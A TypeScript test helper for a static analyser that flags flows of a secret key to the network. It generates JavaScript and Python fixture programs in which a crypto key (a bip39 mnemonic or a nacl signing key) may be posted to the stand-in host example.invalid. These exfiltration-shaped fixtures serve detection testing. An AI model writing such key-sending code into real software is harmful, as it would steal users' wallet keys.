import { analyseSources } from './analyseSources.ts';

/**
 * A small program that has `k`, which is a key by use, and `send`: what comes before the function that has them, what the
 * function does, and whether the key is sent by it.
 */
export type KeyProgram = readonly [what: string, before: string, body: string, isSent: boolean];

async function sent(file: string, text: string): Promise<string[]> {
  const { flows } = await analyseSources({ [file]: text });
  return flows.filter((one) => one.source === 'key' && one.sink === 'network').map((one) => one.confidence);
}
/** How surely the key is sent, once for each flow; nothing where it is not. */
export const keySentInJavaScript = (classes: string, body: string): Promise<string[]> =>
  sent(
    'a.js',
    `const send = (x) => fetch('https://example.invalid', { method: 'POST', body: x }); const use = (x) => require('bip39').mnemonicToSeed(x);
${classes}
exports.main = (k) => { use(k); ${body} }`,
  );
/** The same of a program in Python, whose `before` is at the margin and whose `body` is indented by four. */
export const keySentInPython = (classes: string, body: string): Promise<string[]> =>
  sent(
    'a.py',
    `import requests, nacl.signing
def send(x):
    requests.post('https://example.invalid', data=x)
def use(x):
    return nacl.signing.SigningKey(x)
${classes}
def main(k):
    use(k)
    ${body}
`,
  );
